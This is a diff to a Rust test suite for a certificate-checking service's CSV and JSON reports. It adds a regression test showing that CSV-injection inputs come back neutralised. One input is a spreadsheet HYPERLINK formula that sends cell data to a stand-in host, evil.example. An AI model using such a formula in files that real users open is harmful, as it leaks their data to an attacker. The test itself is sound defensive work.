@@ -95,10 +95,12 @@ async fn every_item_answered_on_its_own_in_order() {
     assert!(reply.header("content-type").starts_with("text/csv"));
     let text = reply.text();
     let lines: Vec<&str> = text.lines().collect();
-    assert_eq!(lines[0], "index,input,outcome,verdict,certificate_id,problem,reason");
+    assert_eq!(lines[0], r#""index","input","outcome","verdict","certificate_id","problem","reason""#);
     assert_eq!(lines.len(), 6, "{text}");
-    assert!(lines[1].starts_with(&format!("0,{},valid,VALID,{},,", ids.valid, ids.valid)), "{}", lines[1]);
-    assert!(lines[5].starts_with(&format!("4,{},not_valid,REVOKED,{},revoked,", ids.revoked, ids.revoked)));
+    let v = &ids.valid;
+    assert!(lines[1].starts_with(&format!(r#""0","{v}","valid","VALID","{v}","","#)), "{}", lines[1]);
+    let r = &ids.revoked;
+    assert!(lines[5].starts_with(&format!(r#""4","{r}","not_valid","REVOKED","{r}","revoked","#)), "{}", lines[5]);
 }
 
 #[tokio::test]
@@ -306,4 +308,34 @@ async fn a_list_the_page_cannot_check_gets_a_page_saying_why() {
     let reply = send(&app, request).await;
     assert_eq!(reply.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
     assert!(reply.text().contains("The form cannot be read"), "{}", reply.text());
+}
+
+/// CSV injection (issue 71): a code that a spreadsheet would run as a formula comes back
+/// in the CSV report — the API's and the page's download — as text, quoted and with a `'`
+/// before it; the JSON report says what was given.
+#[tokio::test]
+async fn a_formula_item_is_text_in_the_csv_report_and_as_given_in_the_json() {
+    let f = Fixture::new();
+    let app = app(f.state.clone());
+    let formula = r#"=HYPERLINK("http://evil.example/?q="&A1,"Verify")"#;
+    let items = vec![formula.to_owned(), "@SUM(1+1)".to_owned(), f.ids.valid.clone(), "-1+2".to_owned()];
+    let json = post_list(&app, &items).await.json();
+    assert_eq!(json["items"][0]["input"], formula, "the JSON report says what was given");
+    assert_eq!(json["items"][1]["input"], "@SUM(1+1)");
+    let csv = String::from_utf8(post(&app, &items).await).expect("UTF-8");
+    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A1,""Verify"")""#), "{csv}");
+    assert!(csv.contains(r#""'@SUM(1+1)""#) && csv.contains(r#""'-1+2""#), "{csv}");
+    for line in csv.lines() {
+        for start in ["=", "+", "-", "@", "\"=", "\"+", "\"-", "\"@"] {
+            assert!(!line.starts_with(start), "a cell a spreadsheet runs: {line}");
+            for sep in [",", ";", "\t"] {
+                assert!(!line.contains(&format!("{sep}{start}")), "a cell a spreadsheet runs: {line}");
+            }
+        }
+    }
+    // The page's list is CSV (the item in the first field): the formula quoted as CSV.
+    let list: Vec<String> = items.iter().map(|i| format!("\"{}\"", i.replace('"', "\"\""))).collect();
+    let list = list.join("\n");
+    let page_csv = post_form(&app, &[("items", &list), ("format", "csv")]).await;
+    assert_eq!(String::from_utf8_lossy(&page_csv.body), csv, "the page's download is the same CSV");
 }
